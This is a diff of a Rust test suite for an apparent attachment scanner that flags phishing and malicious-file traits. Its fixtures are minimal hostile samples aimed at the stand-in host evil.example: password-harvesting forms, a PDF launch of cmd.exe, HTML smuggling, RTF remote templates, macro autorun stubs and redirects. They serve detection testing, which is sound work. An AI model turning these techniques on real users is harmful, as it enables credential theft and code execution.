@@ -6,7 +6,11 @@ use std::time::{Duration, Instant};
 
 /// What `look` says about a file: the codes of its evidence and the targets of its links.
 fn codes(bytes: &[u8], name: &str) -> Vec<String> {
-    look(bytes, name, "", &mut Budget::for_one_message()).evidence.iter().map(|one| one.finding.rule.to_string()).collect()
+    look(bytes, name, "", &mut Budget::for_one_message())
+        .evidence
+        .iter()
+        .map(|one| one.finding.rule.to_string())
+        .collect()
 }
 
 fn check(bytes: &[u8], name: &str, expected: &[&str]) -> Look {
@@ -49,7 +53,8 @@ fn qr(text: &str, scale: usize, margin: usize, dark: u8, light: u8) -> image::Gr
     let width = code.width();
     let side = u32::try_from(width * scale + 2 * margin).unwrap();
     image::GrayImage::from_fn(side, side, |x, y| {
-        let module = |at: u32| (at as usize).checked_sub(margin).map(|at| at / scale).filter(|at| *at < width);
+        let module =
+            |at: u32| (at as usize).checked_sub(margin).map(|at| at / scale).filter(|at| *at < width);
         let is_dark = match (module(x), module(y)) {
             (Some(x), Some(y)) => modules[y * width + x] == qrcode::Color::Dark,
             _ => false,
@@ -74,13 +79,21 @@ const TARGET: &str = "https://evil.example/login?u=42";
 fn a_qr_code_is_read_in_every_format_size_and_colour() {
     let grey = qr(TARGET, 6, 24, 0, 255);
     let picture = image::DynamicImage::ImageLuma8(grey);
-    for format in [image::ImageFormat::Png, image::ImageFormat::Jpeg, image::ImageFormat::Gif, image::ImageFormat::WebP, image::ImageFormat::Bmp] {
+    for format in [
+        image::ImageFormat::Png,
+        image::ImageFormat::Jpeg,
+        image::ImageFormat::Gif,
+        image::ImageFormat::WebP,
+        image::ImageFormat::Bmp,
+    ] {
         let picture = image::DynamicImage::ImageRgb8(picture.to_rgb8());
         let seen = check(&file(&picture, format), "scan.png", &["link-in-qr"]);
         assert_eq!(targets(&seen), [TARGET], "{format:?}");
         assert_eq!(seen.links[0].found_in, "qr");
     }
-    for (scale, margin, dark, light) in [(3, 12, 0, 255), (4, 16, 60, 200), (8, 300, 0, 255), (40, 160, 0, 255), (6, 24, 255, 0)] {
+    for (scale, margin, dark, light) in
+        [(3, 12, 0, 255), (4, 16, 60, 200), (8, 300, 0, 255), (40, 160, 0, 255), (6, 24, 255, 0)]
+    {
         let seen = check(&png(qr(TARGET, scale, margin, dark, light)), "scan.png", &["link-in-qr"]);
         assert_eq!(targets(&seen), [TARGET], "{scale} {margin} {dark} {light}");
     }
@@ -88,13 +101,48 @@ fn a_qr_code_is_read_in_every_format_size_and_colour() {
         let dark = picture.to_luma8().get_pixel(x, y).0[0] < 128;
         image::Rgba([0, 0, 0, if dark { 255 } else { 0 }])
     });
-    let seen = check(&file(&image::DynamicImage::ImageRgba8(clear), image::ImageFormat::Png), "clear.png", &["link-in-qr"]);
+    let seen = check(
+        &file(&image::DynamicImage::ImageRgba8(clear), image::ImageFormat::Png),
+        "clear.png",
+        &["link-in-qr"],
+    );
     assert_eq!(targets(&seen), [TARGET]);
 }
 
 #[test]
+fn a_turned_code_on_a_busy_page_is_read() {
+    let code = qr(TARGET, 6, 24, 20, 235);
+    let side = code.width();
+    for degrees in [0.0_f32, 7.0, 90.0, 180.0] {
+        let (sin, cos) = degrees.to_radians().sin_cos();
+        let page = image::GrayImage::from_fn(900, 700, |x, y| {
+            // Lines of something like writing on the left, the turned code on the right.
+            let (dx, dy) = (x as f32 - 600.0, y as f32 - 350.0);
+            let half = side as f32 / 2.0;
+            let (u, v) = (dx * cos + dy * sin + half, dy * cos - dx * sin + half);
+            let inside = |at: f32| at >= 0.0 && at < side as f32;
+            if inside(u) && inside(v) {
+                return *code.get_pixel(u as u32, v as u32);
+            }
+            let ink = x < 400 && y % 18 < 10 && (x / 3 * 7 + y / 18 * 13) % 5 < 2;
+            image::Luma([if ink { 30 } else { 240 }])
+        });
+        let bytes = file(
+            &image::DynamicImage::ImageRgb8(image::DynamicImage::ImageLuma8(page).to_rgb8()),
+            image::ImageFormat::Jpeg,
+        );
+        let seen = look(&bytes, "letter.jpg", "", &mut Budget::for_one_message());
+        assert_eq!(targets(&seen), [TARGET], "{degrees}");
+    }
+}
+
+#[test]
 fn what_a_qr_code_holds_is_told() {
-    check(&png(qr("BCD\n002\n1\nSCT\n\nName\nDE89370400440532013000\nEUR12", 5, 20, 0, 255)), "pay.png", &["qr-payment"]);
+    check(
+        &png(qr("BCD\n002\n1\nSCT\n\nName\nDE89370400440532013000\nEUR12", 5, 20, 0, 255)),
+        "pay.png",
+        &["qr-payment"],
+    );
     check(&png(qr("WIFI:S:home;T:WPA;P:x;;", 5, 20, 0, 255)), "wifi.png", &["qr-other"]);
     let seen = check(&png(qr("EVIL.EXAMPLE/A", 5, 20, 0, 255)), "bare.png", &["link-in-qr"]);
     assert_eq!(targets(&seen), ["http://EVIL.EXAMPLE/A"]);
@@ -102,7 +150,9 @@ fn what_a_qr_code_holds_is_told() {
 
 #[test]
 fn ordinary_and_odd_pictures_say_nothing() {
-    let noise = image::GrayImage::from_fn(300, 300, |x, y| image::Luma([u8::try_from((x * 7919 ^ y * 104_729) % 251).unwrap()]));
+    let noise = image::GrayImage::from_fn(300, 300, |x, y| {
+        image::Luma([u8::try_from(((x * 7919) ^ (y * 104_729)) % 251).unwrap()])
+    });
     check(&png(noise), "noise.png", &[]);
     check(&png(image::GrayImage::new(1, 1)), "pixel.gif", &[]);
     check(b"\x89PNG\r\n\x1a\nbroken", "broken.png", &[]);
@@ -122,7 +172,8 @@ fn pictures_share_one_budget_of_pixels() {
     let area = usize::try_from(picture.width() * picture.height()).unwrap();
     let bytes = png(picture);
     let mut budget = Budget { pixels: area * 3 + 1, ..Budget::for_one_message() };
-    let read = (0..5).map(|_| look(&bytes, "a.png", "", &mut budget)).filter(|seen| !seen.links.is_empty()).count();
+    let read =
+        (0..5).map(|_| look(&bytes, "a.png", "", &mut budget)).filter(|seen| !seen.links.is_empty()).count();
     assert_eq!(read, 3);
 }
 
@@ -131,7 +182,11 @@ fn programs_scripts_and_shortcuts_are_known_by_content_and_by_name() {
     check(b"MZ\x90\0\x03\0\0\0\x04\0", "holiday.jpg", &["attachment-type-differs", "attachment-program"]);
     check(b"WScript.Echo(1)", "note.vbs", &["attachment-script"]);
     check(b"WScript.Echo(1)", "note.pdf.vbs", &["attachment-script", "attachment-double-extension"]);
-    let seen = check(b"[InternetShortcut]\r\nURL=file://evil.example/share\r\n", "read me.url", &["attachment-shortcut"]);
+    let seen = check(
+        b"[InternetShortcut]\r\nURL=file://evil.example/share\r\n",
+        "read me.url",
+        &["attachment-web-shortcut", "attachment-shortcut"],
+    );
     assert_eq!(targets(&seen), ["file://evil.example/share"]);
     check(b"full address:s:evil.example\r\n", "remote.rdp", &["attachment-remote-desktop"]);
     check(b"ITSF\x03\0\0\0", "help.dat", &["attachment-help-file"]);
@@ -144,18 +199,31 @@ fn programs_scripts_and_shortcuts_are_known_by_content_and_by_name() {
 
 #[test]
 fn archives_are_listed_and_looked_into() {
-    let seen = check(&zip_of(&[("a.txt", b"hello"), ("invoice.pdf.exe", b"MZ\x90\0\x03\0\0\0")]), "a.zip", &[
-        "attachment-program",
-        "attachment-double-extension",
-    ]);
+    let seen = check(
+        &zip_of(&[("a.txt", b"hello"), ("invoice.pdf.exe", b"MZ\x90\0\x03\0\0\0")]),
+        "a.zip",
+        &["attachment-program", "attachment-double-extension"],
+    );
     assert_eq!(seen.listing, ["a.txt", "invoice.pdf.exe"]);
     assert_eq!(seen.detected_type.as_deref(), Some("application/zip"));
-    check(&zip_of(&[("photo.jpg", b"MZ\x90\0\x03\0\0\0 program")]), "a.zip", &["attachment-type-differs", "attachment-program"]);
+    check(
+        &zip_of(&[("photo.jpg", b"MZ\x90\0\x03\0\0\0 program")]),
+        "a.zip",
+        &["attachment-type-differs", "attachment-program"],
+    );
     let page = b"<html><form action='https://evil.example/f'><input type=password></form></html>";
     let inner = zip_of(&[("page.html", page)]);
-    let seen = check(&zip_of(&[("inner.zip", &inner)]), "outer.zip", &["html-attachment", "html-attachment-password", "html-attachment-form"]);
+    let seen = check(
+        &zip_of(&[("inner.zip", &inner)]),
+        "outer.zip",
+        &["html-attachment", "html-attachment-password", "html-attachment-form"],
+    );
     assert_eq!(targets(&seen), ["https://evil.example/f"]);
-    check(&gzip_of(page), "page.html.gz", &["html-attachment", "html-attachment-password", "html-attachment-form"]);
+    check(
+        &gzip_of(page),
+        "page.html.gz",
+        &["html-attachment", "html-attachment-password", "html-attachment-form"],
+    );
     let mut deep = inner;
     for level in 0..6 {
         deep = zip_of(&[(&format!("{level}.zip"), &deep)]);
@@ -216,7 +284,7 @@ fn encrypted_archives_are_told_apart() {
 
 #[test]
 fn archive_bombs_cost_a_bounded_amount_and_are_told() {
-    let zeros = vec![0; 9 << 20];
+    let zeros = vec![b' '; 9 << 20];
     let started = Instant::now();
     check(&gzip_of(&zeros), "bomb.gz", &["archive-bomb"]);
     // A directory that claims 4 GiB.
@@ -237,8 +305,9 @@ fn archive_bombs_cost_a_bounded_amount_and_are_told() {
 
 #[test]
 fn the_files_of_an_archive_share_one_budget() {
-    let mut budget = Budget { bytes: 1 << 20, ..Budget::for_one_message() };
-    let letters: String = (0..60_000_u32).map(|number| format!("{} ", number.wrapping_mul(2_654_435_761))).collect();
+    let mut budget = Budget { bytes: 300 << 10, ..Budget::for_one_message() };
+    let letters: String =
+        (0..6_000_u32).map(|number| format!("{} ", number.wrapping_mul(2_654_435_761))).collect();
     let page = format!("<html>{letters}");
     let names: Vec<String> = (0..20).map(|number| format!("{number}.html")).collect();
     let files: Vec<(&str, &[u8])> = names.iter().map(|name| (name.as_str(), page.as_bytes())).collect();
@@ -261,7 +330,8 @@ fn pdf_of(bodies: &[Vec<u8>]) -> Vec<u8> {
 
 fn stream_of(dictionary: &str, bytes: &[u8]) -> Vec<u8> {
     let packed = zlib(bytes);
-    let mut out = format!("<< {dictionary} /Filter /FlateDecode /Length {} >>\nstream\n", packed.len()).into_bytes();
+    let mut out =
+        format!("<< {dictionary} /Filter /FlateDecode /Length {} >>\nstream\n", packed.len()).into_bytes();
     out.extend(&packed);
     out.extend(b"\nendstream");
     out
@@ -308,12 +378,24 @@ fn words_in_fonts_with_their_own_codes_are_read() {
 #[test]
 fn pdf_actions_are_told() {
     let of = |catalog: &str| pdf_of(&[catalog.as_bytes().to_vec()]);
-    check(&of("<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"), "a.pdf", &["pdf-script"]);
+    check(
+        &of("<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"),
+        "a.pdf",
+        &["pdf-script"],
+    );
     check(&of("<< /Type /Catalog /OpenAction << /S /Launch /F (cmd.exe) >> >>"), "a.pdf", &["pdf-launch"]);
     check(&of("<< /OpenAction << /S /URI /URI (https://evil.example) >> >>"), "a.pdf", &["pdf-opens-link"]);
     check(&of("<< /OpenAction [3 0 R /Fit] >>"), "a.pdf", &[]);
-    check(&of("<< /Type /Filespec /EF << /F 5 0 R >> >> << /Type /EmbeddedFile >>"), "a.pdf", &["pdf-embedded-file"]);
-    let seen = check(&of("<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/s) >> >>"), "a.pdf", &["pdf-form-submits"]);
+    check(
+        &of("<< /Type /Filespec /EF << /F 5 0 R >> >> << /Type /EmbeddedFile >>"),
+        "a.pdf",
+        &["pdf-embedded-file"],
+    );
+    let seen = check(
+        &of("<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/s) >> >>"),
+        "a.pdf",
+        &["pdf-form-submits"],
+    );
     assert!(seen.evidence[0].finding.why.contains("SubmitForm"));
     let mut locked = of("<< /Type /Catalog >>");
     locked.extend(b"trailer << /Encrypt 9 0 R >>");
@@ -324,11 +406,16 @@ fn pdf_actions_are_told() {
 fn a_qr_code_drawn_in_a_pdf_is_read() {
     let grey = qr(TARGET, 5, 20, 0, 255);
     let side = grey.width();
-    let dictionary = format!("/Subtype /Image /Width {side} /Height {side} /BitsPerComponent 8 /ColorSpace /DeviceGray");
+    let dictionary =
+        format!("/Subtype /Image /Width {side} /Height {side} /BitsPerComponent 8 /ColorSpace /DeviceGray");
     let drawn = pdf_of(&[b"<< /Type /Page >>".to_vec(), stream_of(&dictionary, grey.as_raw())]);
     assert_eq!(targets(&look(&drawn, "a.pdf", "", &mut Budget::for_one_message())), [TARGET]);
     let jpeg = file(&image::DynamicImage::ImageLuma8(grey), image::ImageFormat::Jpeg);
-    let mut body = format!("<< /Subtype /Image /Width {side} /Height {side} /Filter /DCTDecode /Length {} >>\nstream\n", jpeg.len()).into_bytes();
+    let mut body = format!(
+        "<< /Subtype /Image /Width {side} /Height {side} /Filter /DCTDecode /Length {} >>\nstream\n",
+        jpeg.len()
+    )
+    .into_bytes();
     body.extend(&jpeg);
     body.extend(b"\nendstream");
     assert_eq!(targets(&look(&pdf_of(&[body]), "a.pdf", "", &mut Budget::for_one_message())), [TARGET]);
@@ -339,7 +426,8 @@ fn a_pdf_bomb_costs_a_bounded_amount_and_is_told() {
     let inner = zlib(&vec![b' '; 5 << 20]);
     let twice = {
         let packed = zlib(&inner);
-        let mut out = format!("<< /Filter [/FlateDecode /FlateDecode] /Length {} >>\nstream\n", packed.len()).into_bytes();
+        let mut out = format!("<< /Filter [/FlateDecode /FlateDecode] /Length {} >>\nstream\n", packed.len())
+            .into_bytes();
         out.extend(&packed);
         out.extend(b"\nendstream");
         out
@@ -374,9 +462,16 @@ fn office_documents_are_looked_into() {
     assert_eq!(targets(&seen), ["https://evil.example/a?b=1&c=2", "https://evil.example/t.dotm"]);
     assert_eq!(seen.text, "Enable content & go\nnow");
     assert!(seen.listing.is_empty());
-    assert_eq!(seen.detected_type.as_deref(), Some("application/vnd.openxmlformats-officedocument.wordprocessingml.document"));
+    assert_eq!(
+        seen.detected_type.as_deref(),
+        Some("application/vnd.openxmlformats-officedocument.wordprocessingml.document")
+    );
     check(&zip_of(&files[..2]), "a.docx", &[]);
-    check(&zip_of(&[("[Content_Types].xml", b""), ("xl/macrosheets/sheet1.xml", b"<x/>")]), "a.xlsm", &["attachment-excel4-macro"]);
+    check(
+        &zip_of(&[("[Content_Types].xml", b""), ("xl/macrosheets/sheet1.xml", b"<x/>")]),
+        "a.xlsm",
+        &["attachment-excel4-macro"],
+    );
 }
 
 #[test]
@@ -393,22 +488,47 @@ fn old_office_documents_are_looked_into() {
     };
     let plain = check(&compound(&[("/WordDocument", &[0; 600])]), "a.doc", &[]);
     assert_eq!(plain.detected_type.as_deref(), Some("application/msword"));
-    check(&compound(&[("/WordDocument", &[0; 64]), ("/Macros/VBA/Module1", b"Sub AutoOpen()")]), "a.doc", &["attachment-macro-autorun"]);
-    check(&compound(&[("/WordDocument", &[0; 64]), ("/Macros/VBA/Module1", b"Sub Tidy()")]), "a.doc", &["attachment-macro"]);
+    check(
+        &compound(&[("/WordDocument", &[0; 64]), ("/Macros/VBA/Module1", b"Sub AutoOpen()")]),
+        "a.doc",
+        &["attachment-macro-autorun"],
+    );
+    check(
+        &compound(&[("/WordDocument", &[0; 64]), ("/Macros/VBA/Module1", b"Sub Tidy()")]),
+        "a.doc",
+        &["attachment-macro"],
+    );
     check(&compound(&[("/EncryptedPackage", &[1; 64])]), "a.docx", &["attachment-encrypted"]);
-    check(&compound(&[("/Workbook", &[0x85, 0, 8, 0, 0, 0, 0, 0, 0, 1, 0, 0])]), "a.xls", &["attachment-excel4-macro"]);
+    check(
+        &compound(&[("/Workbook", &[0x85, 0, 8, 0, 0, 0, 0, 0, 0, 1, 0, 0])]),
+        "a.xls",
+        &["attachment-excel4-macro"],
+    );
     check(&compound(&[("/Workbook", &[0x2f, 0, 2, 0, 0, 0])]), "a.xls", &["attachment-encrypted"]);
-    check(&compound(&[("/WordDocument", &[0; 64]), ("/ObjectPool/_1/Equation Native", &[0; 64])]), "a.doc", &["attachment-equation-object"]);
-    check(&compound(&[("/__properties_version1.0", &[0; 64])]), "a.msg", &["attachment-outlook-form"]);
+    check(
+        &compound(&[("/WordDocument", &[0; 64]), ("/ObjectPool/_1/Equation Native", &[0; 64])]),
+        "a.doc",
+        &["attachment-equation-object"],
+    );
+    check(&compound(&[("/__properties_version1.0", &[0; 64])]), "a.msg", &["attachment-outlook-item"]);
 }
 
 #[test]
 fn rich_text_is_looked_into() {
-    let seen = check(br#"{\rtf1 {\field{\*\fldinst HYPERLINK "https://evil.example/r"}{\fldrslt click}}}"#, "a.rtf", &[]);
+    let seen = check(
+        br#"{\rtf1 {\field{\*\fldinst HYPERLINK "https://evil.example/r"}{\fldrslt click}}}"#,
+        "a.rtf",
+        &[],
+    );
     assert_eq!((targets(&seen), seen.text.as_str()), (vec!["https://evil.example/r"], "click"));
-    check(br"{\rtf1 {\object\objocx{\*\objdata 01050000 4571756174 696f6e2e33 }}}", "a.doc", &["attachment-equation-object"]);
+    check(
+        br"{\rtf1 {\object\objocx{\*\objdata 01050000 4571756174 696f6e2e33 }}}",
+        "a.doc",
+        &["attachment-equation-object"],
+    );
     check(br"{\rtf1 {\object{\*\objdata 0105}}}", "a.rtf", &["attachment-embedded-object"]);
-    let seen = check(br"{\rtf1{\*\template https://evil.example/t}}", "a.rtf", &["attachment-remote-template"]);
+    let seen =
+        check(br"{\rtf1{\*\template https://evil.example/t}}", "a.rtf", &["attachment-remote-template"]);
     assert_eq!(targets(&seen), ["https://evil.example/t"]);
 }
 
@@ -421,9 +541,17 @@ fn web_pages_are_looked_into() {
         &["html-attachment", "html-attachment-password", "html-attachment-form"],
     );
     assert_eq!(targets(&seen), ["https://evil.example/p"]);
-    let seen = check(b"<html><meta http-equiv=refresh content='0;url=https://evil.example/m'>", "a.html", &["html-attachment", "html-attachment-redirect"]);
+    let seen = check(
+        b"<html><meta http-equiv=refresh content='0;url=https://evil.example/m'>",
+        "a.html",
+        &["html-attachment", "html-attachment-redirect"],
+    );
     assert_eq!(targets(&seen), ["https://evil.example/m"]);
-    let seen = check(b"<script>window.location.href = 'https://evil.example/j'</script>", "a.html", &["html-attachment", "html-attachment-script", "html-attachment-redirect"]);
+    let seen = check(
+        b"<script>window.location.href = 'https://evil.example/j'</script>",
+        "a.html",
+        &["html-attachment", "html-attachment-script", "html-attachment-redirect"],
+    );
     assert_eq!(targets(&seen), ["https://evil.example/j"]);
     let smuggling = b"<html><script>var d=atob('UEsDBA==');var b=new Blob([d]);a.href=URL.createObjectURL(b);a.download='x.zip';a.click()</script>";
     check(smuggling, "a.html", &["html-attachment", "html-attachment-script", "html-smuggling"]);
@@ -437,7 +565,11 @@ fn what_a_page_hides_in_base64_or_percent_signs_is_read() {
     let seen = look(page.as_bytes(), "a.html", "", &mut Budget::for_one_message());
     assert_eq!(targets(&seen), ["https://evil.example/hidden"]);
     let found = codes(page.as_bytes(), "a.html");
-    assert!(found.contains(&"html-obfuscated".to_owned()) && found.contains(&"html-attachment-password".to_owned()), "{found:?}");
+    assert!(
+        found.contains(&"html-obfuscated".to_owned())
+            && found.contains(&"html-attachment-password".to_owned()),
+        "{found:?}"
+    );
     let page = "<html><script>document.write(unescape('%3Cmeta http-equiv=refresh content=%220;url=https://evil.example/percent%22%3E'))</script>";
     let seen = look(page.as_bytes(), "a.html", "", &mut Budget::for_one_message());
     assert!(targets(&seen).contains(&"https://evil.example/percent"), "{seen:?}");
@@ -446,7 +578,11 @@ fn what_a_page_hides_in_base64_or_percent_signs_is_read() {
 #[test]
 fn svg_pictures_with_scripts_are_told() {
     check(b"<svg xmlns='http://www.w3.org/2000/svg'><circle r='3'/></svg>", "a.svg", &[]);
-    let seen = check(b"<?xml version='1.0'?><svg><script>location.href='https://evil.example/s'</script></svg>", "a.svg", &["svg-script", "html-attachment-script", "html-attachment-redirect"]);
+    let seen = check(
+        b"<?xml version='1.0'?><svg><script>location.href='https://evil.example/s'</script></svg>",
+        "a.svg",
+        &["svg-script", "html-attachment-script", "html-attachment-redirect"],
+    );
     assert_eq!(targets(&seen), ["https://evil.example/s"]);
     let seen = check(b"<svg><a href=\"https://evil.example/?a=1&amp;b=2\"><rect/></a></svg>", "a.svg", &[]);
     assert_eq!(targets(&seen), ["https://evil.example/?a=1&b=2"]);
@@ -456,7 +592,10 @@ fn svg_pictures_with_scripts_are_told() {
 fn invitations_are_looked_into() {
     let invitation = "BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nORGANIZER;CN=\"Pay: Desk\":mailto:o@evil.example\r\nSUMMARY:Salary review\r\nLOCATION:https://evil.example/lo\r\n cation\r\nDESCRIPTION:Please read\\n\\nhttps://evil.example/d\\, soon\r\nURL:https://evil.example/u\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n";
     let seen = check(invitation.as_bytes(), "invite.ics", &["calendar-link"]);
-    assert_eq!(targets(&seen), ["https://evil.example/location", "https://evil.example/d", "https://evil.example/u"]);
+    assert_eq!(
+        targets(&seen),
+        ["https://evil.example/location", "https://evil.example/d", "https://evil.example/u"]
+    );
     assert!(seen.links.iter().all(|link| link.found_in == "calendar"));
     assert!(seen.evidence[0].finding.why.contains("o@evil.example") && seen.text.contains("Salary review"));
     check(b"BEGIN:VCALENDAR\nSUMMARY:Lunch\nEND:VCALENDAR", "lunch.ics", &["calendar-invite"]);
@@ -481,17 +620,27 @@ fn every_rule_is_told_apart_and_speaks_plainly() {
         assert!(rule.plain.ends_with('.') && rule.plain.contains("{name}"), "{}", rule.code);
         assert!((-50..=50).contains(&rule.weight), "{}", rule.code);
         let words = rule.plain.to_lowercase();
-        for jargon in ["exploit", "payload", "malware", "obfuscat", "vba", "uri", "decompress", "mime", "cve"] {
+        for jargon in ["exploit", "payload", "malware", "obfuscat", "vba", "uri", "decompress", "mime", "cve"]
+        {
             assert!(!words.contains(jargon), "{}: {jargon}", rule.code);
         }
     }
     // Every code that the folder's sources speak of has a row.
     let sources = [
-        include_str!("mod.rs"), include_str!("names.rs"), include_str!("office.rs"), include_str!("page.rs"),
-        include_str!("calendar.rs"), include_str!("picture.rs"), include_str!("pdf/mod.rs"),
-        include_str!("archive/mod.rs"), include_str!("archive/zip.rs"), include_str!("archive/packed.rs"), include_str!("archive/sealed.rs"),
+        include_str!("mod.rs"),
+        include_str!("names.rs"),
+        include_str!("office.rs"),
+        include_str!("page.rs"),
+        include_str!("calendar.rs"),
+        include_str!("picture.rs"),
+        include_str!("pdf/mod.rs"),
+        include_str!("archive/mod.rs"),
+        include_str!("archive/zip.rs"),
+        include_str!("archive/packed.rs"),
+        include_str!("archive/sealed.rs"),
     ];
-    let starts = ["attachment-", "archive-", "html-", "svg-", "pdf-", "qr-", "link-in-", "image-", "calendar-"];
+    let starts =
+        ["attachment-", "archive-", "html-", "svg-", "pdf-", "qr-", "link-in-", "image-", "calendar-"];
     for word in sources.iter().flat_map(|source| source.split('"')) {
         let code = word.chars().all(|c| c.is_ascii_lowercase() || c == '-' || c == '4');
         if code && starts.iter().any(|start| word.starts_with(start)) {
@@ -504,7 +653,12 @@ fn every_rule_is_told_apart_and_speaks_plainly() {
 fn the_budget_is_one_for_the_whole_message() {
     let mut budget = Budget { items: 3, ..Budget::for_one_message() };
     let seen: Vec<bool> = (0..5)
-        .map(|_| look(b"x", "a.txt", "", &mut budget).evidence.iter().any(|one| one.finding.rule == "attachment-not-read"))
+        .map(|_| {
+            look(b"x", "a.txt", "", &mut budget)
+                .evidence
+                .iter()
+                .any(|one| one.finding.rule == "attachment-not-read")
+        })
         .collect();
     assert_eq!(seen, [false, false, false, true, true]);
 }
